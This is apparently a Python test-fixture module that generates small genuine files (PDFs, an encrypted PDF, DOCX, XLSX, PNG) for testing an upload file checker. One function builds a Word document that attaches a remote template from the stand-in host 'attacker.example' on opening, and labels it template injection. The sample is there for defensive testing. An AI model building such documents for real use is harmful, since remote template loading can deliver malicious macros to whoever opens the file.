"""Small real files for upload tests: each opens as what it claims (services.filecheck checks that)."""
import io
import zipfile

# One blank page, as pypdf writes it (PdfWriter().add_blank_page(200, 200)).
PDF = (b"%PDF-1.3\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<\n/Producer (pypdf)\n>>\nendobj\n2 0 obj\n<<\n/Type /Pages\n"
       b"/Count 1\n/Kids [ 4 0 R ]\n>>\nendobj\n3 0 obj\n<<\n/Type /Catalog\n/Pages 2 0 R\n>>\nendobj\n4 0 obj\n"
       b"<<\n/Type /Page\n/Resources <<\n>>\n/MediaBox [ 0.0 0.0 200 200 ]\n/Parent 2 0 R\n>>\nendobj\nxref\n"
       b"0 5\n0000000000 65535 f \n0000000015 00000 n \n0000000054 00000 n \n0000000113 00000 n \n"
       b"0000000162 00000 n \ntrailer\n<<\n/Size 5\n/Root 3 0 R\n/Info 1 0 R\n>>\nstartxref\n256\n%%EOF\n")



def pdf_of_size(size: int) -> bytes:
    """A real one-page PDF of about `size` bytes (random bytes attached to it: they do not compress)."""
    import os

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("pad.bin", os.urandom(size - 1024))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(user_password: str) -> bytes:
    """A one-page PDF encrypted with RC4 (which pypdf reads without extra packages): with an empty user password it
    opens for anyone and only the owner's restrictions apply."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')


def rels(*relationships: tuple[str, str, str, str | None]) -> str:
    """A .rels part from (id, type, target, target mode) tuples."""
    items = "".join(f'<Relationship Id="{rid}" Type="{OFFICE_RELS}/{kind}" Target="{target}"'
                    + (f' TargetMode="{mode}"' if mode else "") + "/>"
                    for rid, kind, target, mode in relationships)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">{items}</Relationships>'


def docx(parts: dict[str, str | bytes] | None = None, main: str = DOCX_MAIN) -> bytes:
    """A minimal Word document (one paragraph), with `parts` added or replaced."""
    files = {
        "[Content_Types].xml": CONTENT_TYPES.format(main=main),
        "_rels/.rels": rels(("rId1", "officeDocument", "word/document.xml", None)),
        "word/document.xml": ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w='
                              '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
                              '<w:t>走访台账</w:t></w:r></w:p></w:body></w:document>'),
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_with_external_template(url: str = "http://attacker.example/t.dotm") -> bytes:
    """A Word document whose settings attach a template fetched from outside on opening (template injection)."""
    return docx({
        "word/_rels/document.xml.rels": rels(("rId1", "settings", "settings.xml", None)),
        "word/settings.xml": ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w='
                              '"http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r='
                              f'"{OFFICE_RELS}"><w:attachedTemplate r:id="rId1"/></w:settings>'),
        "word/_rels/settings.xml.rels": rels(("rId1", "attachedTemplate", url, "External")),
    })


def xlsx() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def png(size=(8, 8)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()
